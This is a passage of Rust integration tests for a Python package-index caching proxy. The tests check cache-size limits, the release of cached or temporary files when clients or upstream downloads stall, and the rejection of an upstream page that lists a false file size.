    let mut stream = std::net::TcpStream::connect(addr).expect("connect");
    let range = range.map_or(String::new(), |r| format!("Range: {r}\r\n"));
    write!(stream, "GET {path} HTTP/1.1\r\nHost: x\r\n{range}\r\n").unwrap();
    stream
}

/// Waits (30 s at most, a hang guard) until `needle` is in `count` log lines.
fn wait_for_lines(srv: &ServeProcess, needle: &str, count: usize) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while srv.log().iter().filter(|l| l.contains(needle)).count() < count {
        assert!(
            std::time::Instant::now() < deadline,
            "{needle} x{count} not in the log: {:#?}",
            srv.log()
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

fn three_large_wheels() -> Vec<IndexEntry> {
    (1..=3)
        .map(|i| {
            entry(
                "rnd",
                &format!("rnd-{i}.0-py3-none-any.whl"),
                large_bytes(i, 8),
            )
        })
        .collect()
}

#[test]
fn clients_that_stop_reading_let_go_of_the_file_cache() {
    let entries = three_large_wheels();
    let upstream = IndexServer::start_json(entries.clone());
    let (cache, runtime) = private_cache();
    let path = |e: &IndexEntry| format!("/files/rnd/{}/{}", e.sha256(), e.filename);
    let srv = ServeProcess::in_front_of(
        &[&upstream.url],
        &runtime,
        cache.path(),
        &["--max-cache-size", "20MiB", "--send-timeout", "1"],
    );
    // Two range requests whose clients never read: each holds a copy in use.
    let _stalled: Vec<_> = entries[..2]
        .iter()
        .map(|e| {
            let s = stalled_request(&srv.addr, &path(e), Some("bytes=1-"));
            wait_for_lines(&srv, &format!("{}\" 206", e.filename), 1);
            s
        })
        .collect();
    // The third needs room those two hold: it gets it once their clients are found gone
    // (before the fix the 503 never cleared).
    let third = &entries[2];
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
    let part = loop {
        let part = http(&srv.addr, "GET", &path(third), &[("Range", "bytes=0-9")]);
        if part.status != 503 || std::time::Instant::now() > deadline {
            break part;
        }
        std::thread::sleep(std::time::Duration::from_millis(200));
    };
    assert_eq!(part.status, 206, "{}", part.text());
    assert_eq!(part.body, third.bytes[..10]);
    srv.wait_for_log("connection closed (--send-timeout)");
}

/// Files under `cache` the process `pid` holds open (a removed one ends in
/// ` (deleted)`).
fn open_files(pid: u32, cache: &std::path::Path) -> Vec<String> {
    let cache = cache.to_string_lossy().into_owned();
    let mut out = Vec::new();
    for fd in std::fs::read_dir(format!("/proc/{pid}/fd"))
        .into_iter()
        .flatten()
    {
        if let Ok(target) = std::fs::read_link(fd.unwrap().path()) {
            let target = target.to_string_lossy().into_owned();
            if target.starts_with(&cache) {
                out.push(target);
            }
        }
    }
    out
}

/// Files the server holds open that are no longer in its cache directory.
fn removed_but_open(pid: u32, cache: &std::path::Path) -> Vec<String> {
    open_files(pid, cache)
        .into_iter()
        .filter(|f| f.ends_with("(deleted)"))
        .collect()
}

#[test]
fn a_copy_being_streamed_is_not_removed_from_under_its_reader() {
    let entries = three_large_wheels();
    let upstream = IndexServer::start_json(entries.clone());
    let (cache, runtime) = private_cache();
    let path = |e: &IndexEntry| format!("/files/rnd/{}/{}", e.sha256(), e.filename);
    let srv = ServeProcess::in_front_of(
        &[&upstream.url],
        &runtime,
        cache.path(),
        &["--max-cache-size", "20MiB"],
    );
    let (one, two, three) = (&entries[0], &entries[1], &entries[2]);
    assert_eq!(get(&srv.addr, &path(one)).body, one.bytes);
    let ok = |e: &IndexEntry| format!("{}\" 200", e.filename);
    wait_for_lines(&srv, &ok(one), 1);
    // A full GET of the kept copy whose client never reads.
    let stalled = stalled_request(&srv.addr, &path(one), None);
    // Its response is logged when it ends: wait for the server to have the copy open.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while open_files(srv.pid(), cache.path())
        .iter()
        .all(|f| !f.ends_with(&one.filename))
    {
        assert!(
            std::time::Instant::now() < deadline,
            "the copy was never opened"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    for e in [two, three] {
        assert_eq!(get(&srv.addr, &path(e)).body, e.bytes);
        wait_for_lines(&srv, &ok(e), 1);
    }
    // The copy in use stayed; the cache holds no more than its budget, and no removed
    // copy is still open (its disk would be outside the budget).
    let kept = kept_copies(cache.path());
    assert!(kept.contains(&one.filename), "{kept:?}");
    assert_eq!(kept.len(), 2, "{kept:?}");
    assert_eq!(
        removed_but_open(srv.pid(), cache.path()),
        Vec::<String>::new()
    );
    drop(stalled);
}

#[test]
fn listed_sizes_are_checked_and_unlisted_ones_reserved_as_they_arrive() {
    // A page that lists a size larger than the file: refused like a streamed file is.
    let liar = entry("liar", "liar-1.0-py3-none-any.whl", big_bytes(7));
    let page = RawPage {
        path: "/simple/liar/".into(),
        content_type: "application/vnd.pypi.simple.v1+json",
        body: serde_json::json!({
            "meta": {"api-version": "1.1"},
            "name": "liar",
            "files": [{
                "filename": liar.filename,
                "url": format!("/files/{}", liar.filename),
                "hashes": {"sha256": liar.sha256()},
                "size": 20 * MIB,
            }]
        })
        .to_string()
        .into_bytes(),
    };
    let upstream = IndexServer::start_with(vec![liar.clone()], vec![page]);
    let (cache, runtime) = private_cache();
    let srv = ServeProcess::in_front_of(
        &[&upstream.url],
        &runtime,
        cache.path(),
        &["--max-cache-size", "40MiB"],
    );
    let path = format!("/files/liar/{}/{}", liar.sha256(), liar.filename);
    let part = http(&srv.addr, "GET", &path, &[("Range", "bytes=0-9")]);
    assert_eq!(part.status, 502, "{}", part.text());
    assert!(part.text().contains("its page lists"), "{}", part.text());
    assert_eq!(kept_copies(cache.path()), Vec::<String>::new());
    drop(srv);

    // An HTML upstream lists no sizes: a file larger than a quarter of the budget is
    // still served in part (room reserved as it arrives), and one larger than the
    // budget is refused as the local cache's limit, not blamed on the upstream.
    let fx = fixture();
    let path = fx.path("big", "big-1.0-py3-none-any.whl");
    let srv = fx.serve(&["--max-cache-size", "1MiB"]);
    let part = http(&srv.addr, "GET", &path, &[("Range", "bytes=0-9")]);
    assert_eq!(part.status, 206, "{}", part.text());
    assert_eq!(part.body, fx.bytes("big-1.0-py3-none-any.whl")[..10]);
    drop(srv);
    let (empty, runtime) = private_cache();
    let srv = ServeProcess::in_front_of(
        &[&fx.upstream.url],
        &runtime,
        empty.path(),
        &["--max-cache-size", "200KiB"],
    );
    let part = http(&srv.addr, "GET", &path, &[("Range", "bytes=0-9")]);
    assert_eq!(part.status, 503, "{}", part.text());
    assert!(part.text().contains("--max-cache-size"), "{}", part.text());
}

/// Every file under the cache's `files/`, temporary ones (`.name…`) included.
fn all_cache_files(cache: &std::path::Path) -> Vec<String> {
    let mut out = Vec::new();
    for dir in std::fs::read_dir(cache.join("files")).into_iter().flatten() {
        for file in std::fs::read_dir(dir.unwrap().path()).into_iter().flatten() {
            out.push(file.unwrap().file_name().to_string_lossy().into_owned());
        }
    }
    out
}

#[test]
fn a_stalled_download_from_the_upstream_gives_back_its_room() {
    let entries = three_large_wheels();
    let upstream = IndexServer::start_json(entries.clone());
    let (cache, runtime) = private_cache();
    let one = &entries[0];
    let path = format!("/files/rnd/{}/{}", one.sha256(), one.filename);
    let srv = ServeProcess::in_front_of(
        &[&upstream.url],
        &runtime,
        cache.path(),
        &["--max-cache-size", "20MiB", "--send-timeout", "1"],
    );
    // Streamed from the upstream into a temporary copy, to a client that never reads.
    let stalled = stalled_request(&srv.addr, &path, None);
    srv.wait_for_log("connection closed (--send-timeout)");
    // The temporary copy (and the room it held) goes with the connection.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !all_cache_files(cache.path()).is_empty() {
        assert!(
            std::time::Instant::now() < deadline,
            "{:?}",
            all_cache_files(cache.path())
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    drop(stalled);
    let part = http(&srv.addr, "GET", &path, &[("Range", "bytes=0-9")]);
    assert_eq!(part.status, 206, "{}", part.text());
    assert_eq!(part.body, one.bytes[..10]);
}
